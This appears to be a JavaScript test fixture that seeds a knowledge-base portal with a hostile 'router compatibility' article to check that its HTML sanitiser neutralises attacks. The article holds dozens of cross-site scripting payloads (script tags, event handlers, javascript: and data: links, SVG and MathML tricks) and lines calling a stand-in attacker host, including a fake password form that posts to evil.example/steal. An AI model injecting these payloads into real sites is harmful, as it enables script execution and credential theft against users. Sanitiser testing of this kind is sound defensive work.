/**
 * knowledge.hostile (server/seed/scenarios.json): an article as an attacker with editor access would write it. Every
 * payload, if it ran, would set `window.__xss` or open a dialog; the portal's sanitiser must leave none of them able to.
 */
export const hostileReference = 'KB0010666';

const run = "window.__xss=1;alert('xss')";

export const hostileArticle = {
  title: 'Router compatibility notes (contains hostile markup)',
  body: [
    '<h2>Compatible routers</h2>',
    '<p>Most routers with an Ethernet WAN port work with our ONT.</p>',
    `<script>${run}</script>`,
    `<SCRIPT SRC="https://evil.example/xss.js"></SCRIPT>`,
    `<img src="x" onerror="${run}" alt="broken">`,
    `<body onload="${run}">`,
    `<p onmouseover="${run}">Hover over this paragraph.</p>`,
    `<div onclick="${run}" onfocus="${run}" tabindex="0">Click or focus here.</div>`,
    `<p><a href="javascript:${run}">Download the router list</a></p>`,
    `<p><a href="JaVaScRiPt:${run}">Mixed-case link</a></p>`,
    `<p><a href="&#106;avascript:${run}">Entity-encoded link</a></p>`,
    `<p><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTthbGVydCgneHNzJyk8L3NjcmlwdD4=">Data link</a></p>`,
    `<p><a href="vbscript:msgbox(1)">VBScript link</a></p>`,
    `<p style="background:url(javascript:${run})">Styled paragraph.</p>`,
    `<p style="width:expression(${run})">Expression paragraph.</p>`,
    `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:${run}")}</style>`,
    `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text x="0" y="15">svg link</text></a></svg>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<form action="https://evil.example/steal"><input name="password" placeholder="Re-enter your password"><button>Verify</button></form>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<base href="https://evil.example/">`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<details open ontoggle="${run}"><summary>Details</summary></details>`,
    `<video><source onerror="${run}"></video>`,
    `<a href="#" onclick="${run}">Anchor with a click handler</a>`,
    '<p>End of hostile markup.</p>',
  ].join('\n'),
  files: {
    html: {
      name: 'router-list.html',
      type: 'text/html',
      content: `<!doctype html><script>${run}</script><p>Router list</p>`,
    },
    svg: {
      name: 'router-diagram.svg',
      type: 'image/svg+xml',
      content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><rect width="10" height="10"/></svg>`,
    },
  },
};
